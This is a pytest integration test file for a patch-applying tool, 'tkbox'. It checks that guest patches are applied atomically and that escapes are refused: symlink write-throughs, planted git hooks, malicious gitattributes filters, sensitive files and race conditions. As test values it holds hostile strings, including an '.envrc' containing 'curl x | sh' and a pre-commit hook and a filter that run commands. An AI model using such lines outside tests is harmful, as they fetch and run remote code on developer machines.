"""`apply_patch` end to end: real git, a real checkout, the fake signer.

The attack corpus cases that need git or the checkout itself, each named for
what it stops, plus the all-or-nothing guarantees (signer refusal, a failure
half-way, a checkout changed between decision and write).
"""

from __future__ import annotations

import asyncio
import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "unit" / "doors" / "changes"))
from changes_trees import Tree, build_upper, file, link, make_tree, read_tree  # noqa: E402

from tkbox.doors.changes import ApplyFailed, ApplyReport, PatchRefused, apply_patch  # noqa: E402
from tkbox.doors.changes import door as door_mod  # noqa: E402
from tkbox.doors.changes import fs as fs_mod  # noqa: E402
from tkbox.doors.changes.patch import parse_patch  # noqa: E402
from tkbox.guest.diff import write_patch  # noqa: E402
from tkbox.record.testing import FakeSigner  # noqa: E402

pytestmark = pytest.mark.integration
RUN = "run-1"


def git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=cwd,
                   check=True, capture_output=True)


def checkout(tmp: Path, tree: Tree, *, repo: bool = True) -> Path:
    co = tmp / "co"
    make_tree(co, tree)
    if repo:
        git(co, "init", "-q")
    return co


def guest_patch(tmp: Path, lower: Tree, final: Tree) -> bytes:
    make_tree(tmp / "lower", lower)
    build_upper(tmp / "upper", lower, final)
    out = io.BytesIO()
    write_patch(tmp / "lower", tmp / "upper", out, max_bytes=1 << 24)
    return out.getvalue()


def apply(patch: bytes, co: Path, signer: FakeSigner | None = None, **kw: Any) -> ApplyReport:
    async def go() -> ApplyReport:
        s = signer or FakeSigner()
        if RUN not in s._open:
            await s.open_run(RUN, {})
        return await apply_patch(patch, co, s, RUN, **kw)
    return asyncio.run(go())


def test_applies_a_guest_patch_and_records_one_write_per_file(tmp_path: Path) -> None:
    lower = {"a.txt": file(b"a\n"), "d/b": file(b"b\n"), "gone": file(b"g\n")}
    final = {"a.txt": file(b"A\n"), "d/b": file(b"b\n"), "new.bin": file(b"\x00\x01"),
             "l": link(b"a.txt")}
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    signer = FakeSigner()
    report = apply(patch, co, signer)
    assert read_tree(co) == final
    assert {f.path: f.status for f in report.files} == {
        "a.txt": "applied", "gone": "applied", "l": "applied", "new.bin": "applied"}
    decisions = signer.of_run(RUN, "tkbox.decision")
    assert [d["resource"]["path"] for d in decisions] == ["a.txt", "gone", "l", "new.bin"]
    assert decisions[1]["resource"] == {"path": "gone", "sha256": None, "mode": None}
    assert all(d["context"]["patch_sha256"] == report.patch_sha256 for d in decisions)
    assert len(signer.of_run(RUN, "tkbox.complete")) == 4
    assert report.to_json()["counts"]["applied"] == 4
    assert not [p for p in os.listdir(co) if p.startswith(".tkbox")]


def test_dry_run_writes_nothing_and_asks_nothing(tmp_path: Path) -> None:
    lower = {"a": file(b"a\n")}
    patch = guest_patch(tmp_path, lower, {"a": file(b"b\n")})
    co = checkout(tmp_path, lower)
    signer = FakeSigner()
    report = apply(patch, co, signer, dry_run=True)
    assert read_tree(co) == lower
    assert [f.status for f in report.files] == ["would apply"]
    assert signer.of_run(RUN, "tkbox.decision") == []


def test_signer_refusing_one_file_applies_nothing(tmp_path: Path) -> None:
    """One refused Write and no file of the patch is written."""
    lower = {"a": file(b"a\n"), "b": file(b"b\n")}
    patch = guest_patch(tmp_path, lower, {"a": file(b"A\n"), "b": file(b"B\n")})
    co = checkout(tmp_path, lower)
    signer = FakeSigner(policy=lambda r, a, res, c: (res["path"] != "b", "policy says no"))
    with pytest.raises(PatchRefused, match="signer refused writing 'b': policy says no"):
        apply(patch, co, signer)
    assert read_tree(co) == lower


def test_signer_unavailable_applies_nothing(tmp_path: Path) -> None:
    lower = {"a": file(b"a\n")}
    patch = guest_patch(tmp_path, lower, {"a": file(b"A\n")})
    co = checkout(tmp_path, lower)
    signer = FakeSigner()
    asyncio.run(signer.open_run(RUN, {}))
    signer.available = False
    with pytest.raises(PatchRefused, match="did not answer"):
        apply(patch, co, signer)
    assert read_tree(co) == lower


def test_checkout_changed_between_decision_and_write_is_refused(tmp_path: Path) -> None:
    """The person edits a file while the signer decides: nothing is written over it."""
    lower = {"a": file(b"a\n"), "b": file(b"b\n")}
    patch = guest_patch(tmp_path, lower, {"a": file(b"A\n"), "b": file(b"B\n")})
    co = checkout(tmp_path, lower)

    def policy(run: str, action: str, res: Any, ctx: Any) -> tuple[bool, str]:
        if res["path"] == "b":
            (co / "b").write_bytes(b"edited by the person\n")
        return True, "ok"

    with pytest.raises(PatchRefused, match="changed after the decision"):
        apply(patch, co, FakeSigner(policy=policy))
    assert read_tree(co) == {"a": file(b"a\n"), "b": file(b"edited by the person\n")}


def test_parent_swapped_for_a_symlink_after_decision_is_refused(tmp_path: Path) -> None:
    """A directory replaced by a symlink to elsewhere mid-apply never redirects a write."""
    lower = {"d/x": file(b"x\n")}
    patch = guest_patch(tmp_path, lower, {"d/x": file(b"X\n")})
    co = checkout(tmp_path, lower)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x").write_bytes(b"x\n")

    def policy(run: str, action: str, res: Any, ctx: Any) -> tuple[bool, str]:
        os.rename(co / "d", tmp_path / "moved")
        os.symlink(outside, co / "d")
        return True, "ok"

    with pytest.raises(PatchRefused, match="changed after the decision"):
        apply(patch, co, FakeSigner(policy=policy))
    assert (outside / "x").read_bytes() == b"x\n"


def test_failure_half_way_leaves_the_checkout_as_it_was(tmp_path: Path, placing: Any) -> None:
    """An error after some files are in place undoes every step, whichever way the files
    take their names."""
    lower = {"a": file(b"a\n"), "d/b": file(b"b\n"), "del": file(b"x\n"), "z/old": file(b"o\n")}
    final = {"a": file(b"A\n"), "d/b": file(b"B\n"), "n/e/w": file(b"new\n"), "z": file(b"f\n")}
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    calls = {"n": 0, "undoing": 0}

    def third_fails() -> None:  # the undo steps may place files back: counted apart
        if calls["n"] == 3:
            calls["undoing"] += 1
            return
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError(28, "No space left on device")

    placing.before_each(third_fails)
    signer = FakeSigner()
    with pytest.raises(ApplyFailed) as err:
        apply(patch, co, signer)
    # a clear one-line error from the door, not a raw OSError: what, why, what to do
    msg = str(err.value)
    assert not isinstance(err.value.__cause__, OSError) and "\n" not in msg
    assert msg.startswith("nothing applied: writing ") and "No space left on device" in msg
    assert "the checkout is as it was" in msg and "apply again" in msg
    # and the record says nothing was written, with the same reason
    outcomes = [r["outcome"] for r in signer.records if r["kind"] == "tkbox.complete"]
    assert outcomes and all(o["written"] is False and "No space left" in o["reason"]
                            for o in outcomes), outcomes
    assert calls["n"] == 3
    assert read_tree(co) == lower
    assert sorted(os.listdir(co)) == [".git", "a", "d", "del", "z"]


def test_originals_that_cannot_be_removed_leave_the_record_saying_written(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Once every file is in place and durable, the patch is applied: the record says
    so even if removing the originals kept for undo then fails, and the error says
    what to remove by hand (before, it recorded "written": false for written files)."""
    import errno

    from tkbox.errors import HostError

    lower = {"a": file(b"a\n"), "d/b": file(b"b\n"), "gone": file(b"g\n")}
    final = {"a": file(b"A\n"), "d/b": file(b"B\n"), "d/new": file(b"n\n")}
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)

    def cleanup_fails(txn: Any) -> None:
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    monkeypatch.setattr(fs_mod, "_cleanup", cleanup_fails)
    signer = FakeSigner()
    with pytest.raises(HostError) as err:
        apply(patch, co, signer)
    msg = str(err.value)
    assert "\n" not in msg and msg.startswith("the patch was applied, but the originals")
    assert "Input/output error" in msg and ".tkbox-apply-" in msg and "by hand" in msg
    assert {p: t for p, t in read_tree(co).items() if ".tkbox" not in p} == final
    outcomes = [r["outcome"] for r in signer.of_run(RUN, "tkbox.complete")]
    assert outcomes == [{"written": True}] * 4, outcomes


def test_an_apply_cancelled_while_writing_ends_the_writes_and_records_them(
        tmp_path: Path, placing: Any) -> None:
    """A cancellation (the daemon stopping) that comes while the files are being
    placed: the writing thread cannot be stopped, so the door waits for it with the
    checkout's descriptor open, records what it did, then ends cancelled. (Before,
    the descriptor was closed under the thread, which then could not finish nor undo,
    and the record said nothing was written.)"""
    import threading

    lower = {"a": file(b"a\n"), "d/b": file(b"b\n"), "gone": file(b"g\n")}
    final = {"a": file(b"A\n"), "d/b": file(b"B\n"), "d/new": file(b"n\n")}
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    placing_started, carry_on = threading.Event(), threading.Event()

    def first_waits() -> None:
        if not placing_started.is_set():
            placing_started.set()
            carry_on.wait(10)

    placing.before_each(first_waits)
    signer = FakeSigner()

    async def go() -> None:
        await signer.open_run(RUN, {})
        task = asyncio.ensure_future(apply_patch(patch, co, signer, RUN))
        while not placing_started.is_set():
            await asyncio.sleep(0.005)
        task.cancel()
        await asyncio.sleep(0.1)  # the door has seen the cancellation
        assert not task.done()
        carry_on.set()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(go())
    assert read_tree(co) == final
    assert [p for p in co.rglob("*") if p.name.startswith(".tkbox")] == []
    outcomes = [r["outcome"] for r in signer.of_run(RUN, "tkbox.complete")]
    assert outcomes == [{"written": True}] * 4, outcomes


def test_a_replaced_file_is_in_the_checkout_at_every_step(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """A reader of the checkout during the apply (a test runner, an editor) finds each
    file the patch modifies, old or new, never missing: it takes its new content in one
    exchange where the filesystem has renameat2's flags (it does here)."""
    assert fs_mod._RENAMEAT2 is not None
    lower = {"a": file(b"a\n"), "d/b": file(b"b\n"), "d/c": file(b"c\n"), "gone": file(b"g\n")}
    final = {"a": file(b"A\n"), "d/b": file(b"B\n"), "d/c": file(b"c\n"), "d/new": file(b"n\n")}
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    seen: list[str] = []

    def look() -> None:
        for path in ("a", "d/b"):
            try:
                seen.append((co / path).read_bytes().decode())
            except FileNotFoundError:
                seen.append(f"{path} missing")

    def watched(real: Any) -> Any:
        def call(*a: Any, **k: Any) -> Any:
            look()
            real(*a, **k)
            look()
        return call

    for name in ("rename", "link", "unlink"):
        monkeypatch.setattr(fs_mod.os, name, watched(getattr(os, name)))
    monkeypatch.setattr(fs_mod, "_RENAMEAT2", watched(fs_mod._RENAMEAT2))
    apply(patch, co)
    assert read_tree(co) == final
    assert seen and set(seen) == {"a\n", "A\n", "b\n", "B\n"}, sorted(set(seen))


def test_a_file_saved_as_it_is_replaced_keeps_the_save(tmp_path: Path, placing: Any) -> None:
    """The person saves `b` just as tkbox is about to give the new `b` its name: their
    save stays and nothing of the patch is kept. Exchanged, the file that came out is
    not the one decided on, and the exchange is undone; moved aside, the save takes the
    empty name first and is never written over (the original stays in the staging
    directory, and the error says so)."""
    from tkbox.errors import HostError

    lower = {"a": file(b"a\n"), "b": file(b"b\n")}
    patch = guest_patch(tmp_path, lower, {"a": file(b"A\n"), "b": file(b"B\n")})
    co = checkout(tmp_path, lower)
    calls = {"n": 0}

    def person_saves_b() -> None:
        calls["n"] += 1
        if calls["n"] == 2:  # b's turn: a, then b
            (co / "b").write_bytes(b"saved by the person\n")

    placing.before_each(person_saves_b)
    with pytest.raises((PatchRefused, HostError)) as err:
        apply(patch, co)
    assert (co / "a").read_bytes() == b"a\n"
    assert (co / "b").read_bytes() == b"saved by the person\n"
    left = sorted(p.name for p in co.iterdir() if p.name.startswith(".tkbox"))
    if placing.way == "renameat2":
        assert isinstance(err.value, PatchRefused)
        assert "b: the checkout changed while writing" in str(err.value)
        assert left == []
    else:
        assert isinstance(err.value, HostError) and "restore b (File exists)" in str(err.value)
        assert len(left) == 1 and left[0] in str(err.value)
        assert (co / left[0] / "2").read_bytes() == b"b\n"  # the original, kept


def test_a_filesystem_without_renameat2_flags_is_written_the_other_way(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where renameat2 refuses its flags (EINVAL: some network and FUSE filesystems),
    the first file says so, and every file is moved aside and linked instead."""
    import errno

    lower = {"a": file(b"a\n"), "d/b": file(b"b\n"), "gone": file(b"g\n")}
    final = {"a": file(b"A\n"), "d/b": file(b"B\n"), "d/new": file(b"n\n")}
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    calls: list[tuple[Any, ...]] = []

    def lacking(*a: Any) -> None:
        calls.append(a)
        raise OSError(errno.EINVAL, os.strerror(errno.EINVAL))

    monkeypatch.setattr(fs_mod, "_RENAMEAT2", lacking)
    apply(patch, co)
    assert read_tree(co) == final and len(calls) == 1
    assert [p for p in co.rglob("*") if p.name.startswith(".tkbox")] == []


def test_path_that_is_a_symlink_in_the_checkout_is_never_written_through(tmp_path: Path) -> None:
    """The checkout's `vendor -> ../outside`: a patch writing `vendor/x` is refused."""
    outside = tmp_path / "outside"
    outside.mkdir()
    co = checkout(tmp_path, {"ok": file(b"1\n")})
    os.symlink(outside, co / "vendor")
    patch = guest_patch(tmp_path, {}, {"vendor/x": file(b"pwned\n")})
    with pytest.raises(PatchRefused, match="symlink in the checkout"):
        apply(patch, co)
    assert list(outside.iterdir()) == []


def test_file_patch_onto_a_checkout_symlink_is_refused(tmp_path: Path) -> None:
    """The patch modifies `f` as a file; in the checkout `f` is a symlink to a host file."""
    host = tmp_path / "host.txt"
    host.write_bytes(b"f\n")
    patch = guest_patch(tmp_path, {"f": file(b"f\n")}, {"f": file(b"pwned\n")})
    co = checkout(tmp_path, {})
    os.symlink(host, co / "f")
    with pytest.raises(PatchRefused, match="mode 120000"):
        apply(patch, co)
    assert host.read_bytes() == b"f\n" and os.path.islink(co / "f")


def test_symlink_created_by_the_patch_then_written_through_is_refused(tmp_path: Path) -> None:
    """`l -> ../outside` then `l/x`: refused before anything is written."""
    lower: Tree = {}
    patch = guest_patch(tmp_path, lower, {"l": link(b"sub")}) + \
        guest_patch(tmp_path / "2", lower, {"l/x": file(b"x\n")})
    co = checkout(tmp_path, {"sub/keep": file(b"k\n")})
    with pytest.raises(PatchRefused):
        apply(patch, co)
    assert read_tree(co) == {"sub/keep": file(b"k\n")}


def test_ignored_file_is_set_apart_and_the_rest_applies(tmp_path: Path) -> None:
    """A change to a file git ignores would not show in `git status`: never written, set
    apart (listed, not a failure: build output and caches are what people ignore)."""
    lower = {".gitignore": file(b"*.log\nbuild/\n"), "src.py": file(b"1\n")}
    final = dict(lower, **{"src.py": file(b"2\n"), "debug.log": file(b"x\n"),
                           "build/out.js": file(b"evil()\n")})
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    report = apply(patch, co)
    status = {f.path: f.status for f in report.files}
    assert status == {"src.py": "applied", "debug.log": "set apart",
                      "build/out.js": "set apart"}
    assert read_tree(co) == dict(lower, **{"src.py": file(b"2\n")})


def test_tracked_file_matching_an_ignore_rule_is_not_ignored(tmp_path: Path) -> None:
    lower = {".gitignore": file(b"*.cfg\n"), "app.cfg": file(b"1\n")}
    co = checkout(tmp_path, lower)
    git(co, "add", "-f", "app.cfg", ".gitignore")
    patch = guest_patch(tmp_path, lower, dict(lower, **{"app.cfg": file(b"2\n")}))
    assert [f.status for f in apply(patch, co).files] == ["applied"]


def test_configured_hooks_directory_is_refused(tmp_path: Path) -> None:
    """core.hooksPath=.hooks: a patch writing `.HOOKS/pre-commit` would run on commit."""
    co = checkout(tmp_path, {"a": file(b"a\n")})
    git(co, "config", "core.hooksPath", ".hooks")
    patch = guest_patch(tmp_path, {}, {".HOOKS/pre-commit": file(b"#!/bin/sh\nevil\n")})
    with pytest.raises(PatchRefused, match="hooks directory"):
        apply(patch, co, allow_sensitive=True)
    assert not (co / ".HOOKS").exists() and not (co / ".hooks").exists()


def test_sensitive_files_are_held_back_unless_allowed(tmp_path: Path) -> None:
    lower = {"a": file(b"a\n")}
    final = {"a": file(b"A\n"), ".github/workflows/ci.yml": file(b"on: push\n"),
             "run.sh": file(b"#!/bin/sh\n", exec=True), ".envrc": file(b"curl x | sh\n")}
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    report = apply(patch, co)
    assert {f.path: f.status for f in report.files} == {
        ".envrc": "held back", ".github/workflows/ci.yml": "held back", "a": "applied",
        "run.sh": "held back"}
    assert read_tree(co) == {"a": file(b"A\n")}
    co2 = tmp_path / "co2"
    make_tree(co2, lower)
    report = apply(patch, co2, allow_sensitive=True)
    assert read_tree(co2) == final and report.count("applied") == 4


def test_executable_mode_change_is_held_back(tmp_path: Path) -> None:
    """`chmod +x` on an existing file makes it something hooks and CI can run."""
    lower = {"tool": file(b"#!/bin/sh\necho hi\n")}
    patch = guest_patch(tmp_path, lower, {"tool": file(b"#!/bin/sh\necho hi\n", exec=True)})
    co = checkout(tmp_path, lower)
    (f,) = apply(patch, co).files
    assert (f.kind, f.status) == ("mode", "held back")
    assert read_tree(co) == lower


def test_git_reading_the_patch_differently_is_refused(tmp_path: Path) -> None:
    """Step 3 itself: if our parse and git's disagree on any section, nothing goes on."""
    patch = guest_patch(tmp_path, {"a": file(b"a\n")}, {"a": file(b"b\n"), "c": file(b"c\n")})
    other = guest_patch(tmp_path / "o", {"a": file(b"a\n")}, {"a": file(b"b\nb\n"),
                                                             "c": file(b"c\n")})
    ours = parse_patch(other)  # sections that claim different line counts
    tampered = type(ours)(patch, ours.sha256, ours.sections)
    g = door_mod.Git()
    try:
        with pytest.raises(PatchRefused, match=r"read the patch differently at patch line 1 \(a\)"):
            asyncio.run(door_mod._git_reads_same(g, tampered))
        asyncio.run(door_mod._git_reads_same(g, parse_patch(patch)))  # the honest one passes
    finally:
        g.close()


def test_gitattributes_in_the_checkout_do_not_change_the_result(tmp_path: Path) -> None:
    """A `.gitattributes` (eol=crlf, a filter) never converts what git builds in scratch."""
    lower = {".gitattributes": file(b"* text eol=crlf\n*.txt filter=evil\n"),
             "a.txt": file(b"a\nb\n")}
    final = dict(lower, **{"a.txt": file(b"a\nB\n"), ".gitattributes": file(b"* text\n")})
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    git(co, "config", "filter.evil.clean", "touch /tmp/tkbox-test-filter-ran")
    apply(patch, co, allow_sensitive=True)
    assert read_tree(co) == final
    assert not Path("/tmp/tkbox-test-filter-ran").exists()


def test_not_a_git_repository_applies_with_a_note(tmp_path: Path) -> None:
    lower = {"a": file(b"a\n")}
    patch = guest_patch(tmp_path, lower, {"a": file(b"b\n")})
    co = checkout(tmp_path, lower, repo=False)
    report = apply(patch, co)
    assert report.count("applied") == 1 and "not a git repository" in report.notes[0]


def test_report_renders_hostile_paths_as_text(tmp_path: Path) -> None:
    from rich.console import Console
    patch = guest_patch(tmp_path, {}, {"[bold red]x[/]": file(b"x\n")})
    co = checkout(tmp_path, {})
    report = apply(patch, co, dry_run=True)
    console = Console(file=io.StringIO(), width=120, color_system=None)
    report.render(console)
    out = console.file.getvalue()  # type: ignore[attr-defined]
    assert "[bold red]x[/]" in out and "would apply" in out


def test_ancestor_directories_are_not_listed(tmp_path: Path) -> None:
    """Only a directory the patch replaces is listed; a big `src/` is never walked."""
    lower = {"src/x": file(b"x\n"), "src/other/y": file(b"y\n")}
    patch = guest_patch(tmp_path, lower, {"src/x": file(b"X\n"), "src/other/y": file(b"y\n")})
    co = checkout(tmp_path, lower)
    with fs_mod.Checkout(co) as c:
        states = door_mod._states(c, parse_patch(patch), door_mod.Limits())
    assert states["src"].kind == "dir" and states["src"].below == frozenset()
    assert states["src/x"].content == b"x\n"


def test_a_directory_a_write_needs_is_kept_with_its_mode(tmp_path: Path) -> None:
    """Deleting `priv/x` and adding `priv/y` keeps the 0700 `priv/`: it is not removed
    as emptied and then made again as 0755. Emptied directories no write needs still go."""
    lower = {"priv/x": file(b"x\n"), "priv/sub/z": file(b"z\n"), "gone/deep/w": file(b"w\n"),
             "keep": file(b"k\n")}
    final = {"priv/y": file(b"y\n"), "keep": file(b"k\n")}
    patch = guest_patch(tmp_path, lower, final)
    co = checkout(tmp_path, lower)
    os.chmod(co / "priv", 0o700)
    report = apply(patch, co)
    assert {f.path: f.status for f in report.files} == {
        "gone/deep/w": "applied", "priv/sub/z": "applied", "priv/x": "applied",
        "priv/y": "applied"}
    assert read_tree(co) == final
    assert (co / "priv").stat().st_mode & 0o7777 == 0o700
    assert not (co / "priv" / "sub").exists() and not (co / "gone").exists()
